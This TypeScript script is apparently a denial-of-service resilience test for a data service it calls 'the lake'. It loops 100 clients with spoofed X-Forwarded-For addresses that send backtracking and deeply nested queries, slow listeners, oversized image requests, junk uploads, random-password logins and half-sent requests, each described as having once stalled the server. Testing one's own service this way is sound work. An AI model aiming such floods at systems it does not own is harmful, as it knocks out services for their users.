import { randomBytes, randomInt } from 'node:crypto'
import { once } from 'node:events'
import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

const STRANGERS = 100
/** In milliseconds. A failed act costs the lake nothing; repeated at once it would only keep a core of this machine busy. */
const AFTER_ACT = 10
const AFTER_FAILURE = 100
const PATIENCE = 10_000
const DATA = '/lake/v2025-02-19/data'
const UPGRADE = [
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
]
const SLOW_FILTER = encodeURIComponent('*[pt::text(*) match "a*b*c*d"]')

/** The lake that is attacked, and a picture of it. */
const [, , address = '', picture = ''] = process.argv
const lake = new URL(address)

/** What each stranger, who comes from an address of its own, does again and again; all of it once stopped or slowed the lake. */
const acts: readonly ((from: string) => Promise<unknown>)[] = [
  (from) => raw(from, ['GET /lake/socket HTTP/1.1', `Host: a:b@${lake.host}`, ...UPGRADE, '', '']),
  (from) => raw(from, ['GET /nonsense HTTP/1.1', `Host: ${lake.host}`, ...UPGRADE, '', '']),
  // Queries without an end, loops within loops, answers of hundreds of MB, queries of 98,000 characters.
  (from) => query(from, `"${'a'.repeat(100)}" match "${'a*'.repeat(10)}b"`),
  (from) => query(from, nested(7)),
  (from) => query(from, '*{"x":*[0...250]}'),
  (from) => query(from, `a${'.a'.repeat(49_000)}`),
  // Listeners with a slow filter, that read nothing, that ask for the past.
  (from) => ask(from, `${DATA}/listen/production?query=${SLOW_FILTER}`, {}, 4_000),
  (from) =>
    raw(
      from,
      [`GET ${DATA}/listen/production?query=*&includeResult=true HTTP/1.1`, `Host: ${lake.host}`, '', ''],
      false,
    ),
  (from) => {
    const headers = { 'last-event-id': 'x#y' }
    return ask(from, `${DATA}/listen/production?query=*&enableResume=true`, { headers }, 4_000)
  },
  // Pictures beyond measure, and made-up crops.
  (from) => ask(from, `${picture}?rect=0,0,2000,20&h=8192&fm=png`, {}, 2_000),
  (from) => {
    const rect = [randomInt(50), randomInt(50), 500 + randomInt(99), 500].join(',')
    return ask(from, `${picture}?rect=${rect}&w=1900&h=3000`, {}, 2_000)
  },
  // Uploads that are refused, wrong passwords, half a request, broken addresses.
  (from) => ask(from, '/lake/v1/assets/images/production', { method: 'POST', body: randomBytes(300_000) }),
  (from) => {
    const body = new URLSearchParams({ password: randomBytes(6).toString('hex'), origin: lake.origin })
    return ask(from, '/lake/login', { method: 'POST', body, headers: { origin: lake.origin } })
  },
  (from) => raw(from, [`POST ${DATA}/query/production HTTP/1.1`, 'Host: x', 'Content-']),
  (from) => ask(from, `/%00${'x'.repeat(randomInt(400))}`),
]

process.once('disconnect', () => process.exit(0))
await Promise.all(Array.from({ length: STRANGERS }, (_, number) => attack(number)))

async function attack(number: number): Promise<void> {
  const act = acts[number % acts.length]
  while (act) {
    await act(`203.0.113.${number}`).catch(() => pause(AFTER_FAILURE))
    // Spreads the requests when the answers come at once.
    await pause(AFTER_ACT)
  }
}

function nested(depth: number): string {
  const list = `[${Array(10).fill('{}')}]`
  return depth === 0 ? list : `${list}{"x":${nested(depth - 1)}}`
}

function query(from: string, text: string): Promise<void> {
  const headers = { 'content-type': 'application/json' }
  const body = JSON.stringify({ query: text })
  return ask(from, `${DATA}/query/production`, { method: 'POST', body, headers })
}

/** Reads the answer to its end, or for as long as its patience lasts. */
async function ask(from: string, path: string, init: RequestInit = {}, patience = PATIENCE): Promise<void> {
  const headers = new Headers(init.headers)
  headers.set('x-forwarded-for', from)
  const signal = AbortSignal.timeout(patience)
  const response = await fetch(new URL(path, lake), { ...init, headers, signal, redirect: 'manual' })
  for await (const chunk of response.body ?? []) void chunk
}

/** Sends bytes on a connection of its own, and closes it after some seconds unless the lake has. */
async function raw(from: string, [first = '', ...rest]: readonly string[], isReading = true): Promise<void> {
  const socket = connect(Number(lake.port), lake.hostname)
  socket.write([first, `X-Forwarded-For: ${from}`, ...rest].join('\r\n'))
  if (isReading) socket.resume()
  const leave = setTimeout(() => socket.destroy(), 3_000)
  await once(socket, 'close').finally(() => clearTimeout(leave))
}
